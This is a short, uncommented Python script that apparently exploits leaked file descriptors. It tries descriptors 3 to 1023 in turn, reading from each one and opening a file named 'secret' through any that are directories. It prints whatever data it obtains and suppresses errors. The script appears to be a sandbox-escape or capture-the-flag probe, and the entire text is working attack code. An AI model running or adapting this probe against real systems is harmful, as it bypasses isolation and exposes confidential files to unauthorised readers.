import os

for number in range(3, 1024):
    for read in (
        lambda: os.pread(number, 100, 0),
        lambda: os.read(os.open("secret", os.O_RDONLY, dir_fd=number), 100),
    ):
        try:
            print(read())
        except OSError:
            pass
